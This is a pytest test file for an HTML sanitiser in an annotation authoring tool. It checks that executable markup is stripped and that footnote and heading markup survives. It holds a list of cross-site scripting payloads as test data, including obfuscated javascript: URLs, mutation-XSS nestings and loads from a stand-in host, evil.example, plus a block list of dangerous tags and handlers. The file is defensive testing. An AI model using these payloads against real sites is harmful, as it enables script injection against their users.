"""What authors' HTML may hold, and that nothing that runs gets through."""

from __future__ import annotations

import pytest

from annotated_agenda.authoring.annotations.allowed_html import (
    OWN_PAGE,
    clean_html,
    forbidden_html,
)

PAYLOADS = (
    "<script>hacked = 1</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=hacked=1>",
    "<svg onload=hacked=1><circle/></svg>",
    "<svg><script>hacked=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>",
    "<iframe src='javascript:hacked=1'></iframe>",
    "<object data='javascript:hacked=1'></object>",
    "<embed src='javascript:hacked=1'>",
    "<a href='javascript:hacked=1'>x</a>",
    "<a href='JaVaScRiPt:hacked=1'>x</a>",
    "<a href=' java&#10;script:hacked=1'>x</a>",
    "<a href='&#106;avascript:hacked=1'>x</a>",
    "<a href='data:text/html,<script>hacked=1</script>'>x</a>",
    "<a href='vbscript:hacked=1'>x</a>",
    "[x](javascript:hacked=1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](x){onerror=hacked=1}",
    "text {: onclick=hacked=1 }",
    "<p onclick=hacked=1>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q><button>x</button></form>",
    "<details open ontoggle=hacked=1>x</details>",
    "<video src=x onerror=hacked=1></video>",
    "<body onload=hacked=1>",
    "<template><script>hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hacked=1>'></noscript>",
    "<!--><img src=x onerror=hacked=1>-->",
)
_EVIL = ("<script", "onerror", "onload", "onclick", "ontoggle", "javascript:", "data:", "<iframe", "<style",
    "<form", "<base", "<meta", "<link", "<svg", "position:")  # fmt: skip


@pytest.mark.parametrize("payload", [one for one in PAYLOADS if one.startswith("<")])
def test_nothing_that_runs_is_kept(payload: str) -> None:
    cleaned = clean_html(f"<p>before</p>{payload}<p>after</p>").lower()
    assert "before" in cleaned
    for part in _EVIL:
        assert part not in cleaned.replace("&lt;", "")


@pytest.mark.parametrize(
    ("html", "found"),
    [
        ("<p>plain <em>words</em></p>", ()),
        ('<a href="https://un.org/">x</a><a href="../X/">y</a><a href="#fn-1">1</a>', ()),
        ('<td style="text-align: right;">5</td>', ()),
        ("<script>x</script>", ("<script",)),
        ('<p onclick="x">y</p>', ("onclick=",)),
        ('<p class="md-consent__overlay">y</p>', ("class=md-consent__overlay",)),
        ('<p class="footnote aa-skip">y</p>', ("class=footnote aa-skip",)),
        ('<p id="content">y</p>', ("id=content",)),
        ('<div class="footnote"><p id="p1">y</p></div>', ()),
        ('<sup id="fnref-*"><a class="footnote-ref" href="#fn-*">1</a></sup>', ()),
        ('<a href="javascript:x()">y</a>', ("href=javascript:x()",)),
    ],
)
def test_the_author_is_told_what_may_not_stand(html: str, found: tuple[str, ...]) -> None:
    assert forbidden_html(html) == found


@pytest.mark.parametrize(
    "html",
    [
        '<p id="p1">words <a href="cite:UNTOC art. 13">article 13</a></p>',
        '<ol type="a" start="2"><li id="p1-b">entry</li></ol>',
        '<sup id="fnref-1"><a class="footnote-ref" href="#fn-1">1</a></sup>',
        '<p lang="ar" dir="rtl">كلمات</p>',
        '<sup id="fnref-1.2"><a class="footnote-ref" href="#fn-1.2">1</a></sup>',
        '<div class="admonition note"><p class="admonition-title">Note</p></div>',
    ],
)
def test_what_annotations_need_is_kept(html: str) -> None:
    assert clean_html(html) == html


def test_an_id_that_the_page_uses_itself_is_dropped() -> None:
    assert clean_html('<p id="sharing">x</p>') == "<p>x</p>"


def test_no_class_of_the_theme_is_kept() -> None:
    html = '<a class="md-consent__overlay" href="https://evil.example/">x</a><p id="content">y</p>'
    assert clean_html(html) == '<a href="https://evil.example/">x</a><p>y</p>'


def test_an_aligned_cell_is_aligned_by_a_class() -> None:
    html = '<table><tr><td style="text-align: right;">5</td><th colspan="2" style="text-align:center">x</th></tr></table>'
    cleaned = clean_html(html)
    assert "style=" not in cleaned
    assert '<td class="aa-align-right">5</td>' in cleaned
    assert '<th colspan="2" class="aa-align-center">x</th>' in cleaned


@pytest.mark.parametrize(
    ("html", "found"),
    [
        ('<h1 id="acces">Accès</h1><img src="plan.png" alt="Plan" width="300">', ()),
        ('<a href="tel:+431234">téléphone</a>', ()),
        ('<img src="https://evil.example/x.png" alt="">', ("src=https://evil.example",)),
        ('<img src="//evil.example/x.png" alt="">', ("src=//evil.example/x.png",)),
        ("<script>x</script>", ("<script",)),
        ('<a class="md-consent__overlay" href="#x">x</a>', ("class=md-consent__overlay",)),
    ],
)
def test_a_page_of_one_s_own_may_have_headings_and_pictures(
    html: str, found: tuple[str, ...]
) -> None:
    assert OWN_PAGE.forbidden(html) == found
